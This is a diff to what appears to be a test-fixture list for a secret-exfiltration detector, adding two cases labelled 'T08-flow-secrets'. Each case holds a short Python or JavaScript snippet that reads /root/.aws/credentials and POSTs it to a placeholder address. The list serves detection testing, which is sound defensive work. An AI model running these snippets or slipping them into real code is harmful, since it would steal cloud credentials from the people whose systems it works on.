@@ -187,6 +187,20 @@ const seen: ReadonlyArray<readonly [string, string, Example]> = [
     },
   ],
   [
+    "a list that is filled, one file after the other",
+    "T08-flow-secrets",
+    {
+      "a.py": `import requests\nfound = []\ndef take(path):\n    found.append(open(path).read())\ntake("/root/.aws/credentials")\nrequests.post("${place}", json=found)\n`,
+    },
+  ],
+  [
+    "what a file's reader hands to the next step",
+    "T08-flow-secrets",
+    {
+      "a.js": `const fs = require("fs/promises");\nfs.readFile("/root/.aws/credentials", "utf8").then((t) => fetch("${place}", { method: "POST", body: t }));\n`,
+    },
+  ],
+  [
     "an archive named by the day",
     "T08-flow-secrets",
     {
